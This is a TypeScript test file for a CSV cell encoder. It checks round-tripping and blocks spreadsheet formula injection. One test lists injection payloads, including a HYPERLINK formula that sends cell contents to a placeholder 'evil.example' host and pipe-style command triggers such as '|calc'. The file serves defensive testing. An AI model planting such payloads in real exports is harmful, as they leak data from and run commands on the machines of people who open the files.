import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { toCell } from "./formats.ts";

/** Parses a line as RFC 4180 does. */
function parseLine(line: string): string[] {
  const cells: string[] = [];
  for (let at = 0; at <= line.length;) {
    if (line[at] === '"') {
      let value = "";
      at += 1;
      for (;;) {
        if (line[at] === '"' && line[at + 1] === '"') {
          value += '"';
          at += 2;
        } else if (line[at] === '"') {
          break;
        } else {
          assert.ok(at < line.length, "a quote is not closed");
          value += line[at];
          at += 1;
        }
      }
      cells.push(value);
      at += 2;
    } else {
      const end = line.indexOf(",", at);
      const value = line.slice(at, end === -1 ? undefined : end);
      assert.ok(!value.includes('"'));
      cells.push(value);
      at += value.length + 1;
    }
  }
  return cells;
}

test("cells survive the round trip, on one line, and none is a formula", () => {
  // A failing run prints its seed.
  fc.assert(
    fc.property(fc.array(fc.string({ unit: "grapheme" }), { minLength: 1, maxLength: 6 }), (values) => {
      const line = values.map(toCell).join(",");
      assert.ok(!/[\r\n]/.test(line));
      const cells = parseLine(line);
      assert.equal(cells.length, values.length);
      for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@\t\r＝＋－＠|%]/u);
    }),
    { numRuns: 500 },
  );
});

test("marks what a spreadsheet would evaluate as text", () => {
  for (const formula of [
    '=HYPERLINK("http://evil.example?"&A1)',
    "+1+1",
    "-2+3|cmd",
    "@SUM(A1)",
    "＝1+1",
    "\t=1+1",
    "|calc",
  ]) {
    assert.match(parseLine(toCell(formula))[0] ?? "", /^'/, formula);
  }
  assert.equal(toCell(-3), "-3");
  assert.equal(toCell(null), "");
  assert.equal(toCell("plain"), "plain");
  assert.equal(toCell('say "a, b"'), '"say ""a, b"""');
  assert.equal(toCell("in; parts"), '"in; parts"');
});
